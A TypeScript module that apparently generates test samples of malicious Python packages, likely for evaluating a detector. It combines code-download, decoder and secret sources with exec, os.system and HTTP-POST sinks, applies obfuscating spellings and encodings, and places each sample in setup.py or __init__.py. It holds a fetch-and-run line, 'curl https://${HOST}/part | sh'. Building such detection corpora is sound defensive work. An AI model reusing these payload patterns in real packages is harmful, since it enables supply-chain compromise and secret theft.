import { carriers } from './carriers.js';
import { encodedPayload, encodings, foldings } from './encodings.js';
import { codeOf, treeWith, type Context, type Dimensions, type Sample, type Sink, type Source } from './sample.js';
import { execSinks, processSinks, rootSinks, sendSinks } from './sinks.js';
import { codeSources, HOST, secretSources, shippedSources } from './sources.js';
import { spellings } from './spellings.js';

interface Recipe {
  readonly source: Source;
  readonly sink: Sink;
  readonly sourceSpelling?: string;
  readonly sinkSpelling?: string;
  readonly carrier?: string;
}

type Unplaced = Dimensions & { readonly code: string; readonly tools?: string };

const spelled = (spelling: string, { target }: Source | Sink): ReturnType<(typeof spellings)[string]> => (spellings[spelling] ?? spellings['plain']!)(target);

function cooked({ source, sink, sourceSpelling = 'plain', sinkSpelling = 'plain', carrier = 'direct' }: Recipe): Unplaced {
  const [from, to] = [spelled(sourceSpelling, source), spelled(sinkSpelling, sink)];
  const way = carriers[carrier]!(source.give(from.callee), (data) => sink.take(to.callee, data));
  const spelling = sinkSpelling === 'plain' ? (sourceSpelling === 'plain' ? 'plain' : `source: ${sourceSpelling}`) : `sink: ${sinkSpelling}`;
  const isOne = !('tools' in way);
  const above = [sink.lines ?? [], to.lines];
  const sourceAbove = [source.lines ?? [], from.lines];
  const modules = [from.module ?? [], to.module ?? [], ...(isOne ? [] : [...sourceAbove, ...above, way.tools])];
  return {
    source: source.id, sink: sink.id, spelling, carrier, encoding: source.id === 'decoder' ? 'base64' : 'none',
    code: codeOf(...sourceAbove, ...above, isOne ? way : way.lines),
    tools: modules.flat().length === 0 ? '' : codeOf(...modules),
  };
}

const named = <T extends { readonly id: string }>(list: readonly T[], id: string): T => list.find((each) => each.id === id)!;
const isPlain = (name: string): boolean => name === 'plain' || name === 'direct';

const exec = named(execSinks, 'exec');
const system = named(processSinks, 'os.system');
const post = named(sendSinks, 'requests.post');
const decoder = named(codeSources, 'decoder');
const download = named(codeSources, 'network-urllib');
const environment = named(secretSources, 'environment');
const PAIRS: readonly Recipe[] = [{ source: decoder, sink: exec }, { source: download, sink: system }, { source: environment, sink: post }];

const crossed = (sources: readonly Source[], sinks: readonly Sink[]): readonly Unplaced[] => sources.flatMap((source) => sinks.map((sink) => cooked({ source, sink })));

const spellingFamily = (): readonly Unplaced[] =>
  Object.keys(spellings).filter((name) => !isPlain(name)).flatMap((name) => PAIRS.flatMap((pair) => [cooked({ ...pair, sinkSpelling: name }), cooked({ ...pair, sourceSpelling: name })]));

const carrierFamily = (): readonly Unplaced[] => Object.keys(carriers).filter((name) => !isPlain(name)).flatMap((carrier) => PAIRS.map((pair) => cooked({ ...pair, carrier })));

function encodingFamily(): readonly Unplaced[] {
  return Object.entries(encodings).flatMap(([encoding, encode]) =>
    [exec, system].map((sink) => {
      const { lines, expression } = encodedPayload(encode);
      const to = spelled('plain', sink);
      return { source: 'decoder', sink: sink.id, spelling: 'plain', encoding, carrier: 'direct', code: codeOf(lines, to.lines, [sink.take(to.callee, expression)]) };
    }),
  );
}

const COMMAND = `curl https://${HOST}/part | sh`;
const HIDDEN: Readonly<Record<string, string>> = { exec: `import os; os.system('${COMMAND}')`, 'os.system': COMMAND };

function foldingFamily(): readonly Unplaced[] {
  return Object.entries(foldings).flatMap(([folding, fold]) =>
    [exec, system].map((sink) => {
      const { lines, expression } = fold(HIDDEN[sink.id] ?? '');
      const to = spelled('plain', sink);
      return { source: 'constant', sink: sink.id, spelling: 'plain', encoding: `constant: ${folding}`, carrier: 'direct', code: codeOf(lines, to.lines, [sink.take(to.callee, expression)]) };
    }),
  );
}

// Most of them on import: while installing, a mere network contact blocks already.
const ROUND: readonly Context[] = ['__init__.py', 'setup.py', '__init__.py', 'backend', '__init__.py'];

const nameOf = ({ source, sink, spelling, encoding, carrier }: Dimensions): string => [source, sink, spelling, encoding, carrier].join('-').replace(/[^\w.-]+/g, '_');

/** By its name, so that a sample stays where it is when others come. */
function contextOf(name: string): Context {
  const sum = [...Buffer.from(name)].reduce((all, code) => (all * 31 + code) % 9973, 7);
  return ROUND[sum % ROUND.length] ?? '__init__.py';
}

function sampleOf({ code, tools = '', ...dimensions }: Unplaced): Sample {
  const id = nameOf(dimensions);
  const context = contextOf(id);
  return { ...dimensions, id, context, files: treeWith(code, context, tools) };
}

/** Every sample once, in an order that never changes. */
export function samples(): readonly Sample[] {
  const all = [
    ...crossed([...codeSources, ...shippedSources], [...execSinks, ...processSinks]),
    ...crossed(codeSources.slice(0, 2), rootSinks),
    ...crossed(secretSources, sendSinks),
    ...spellingFamily(), ...carrierFamily(), ...encodingFamily(), ...foldingFamily(),
  ].map(sampleOf);
  return [...new Map(all.map((sample) => [sample.id, sample])).values()];
}
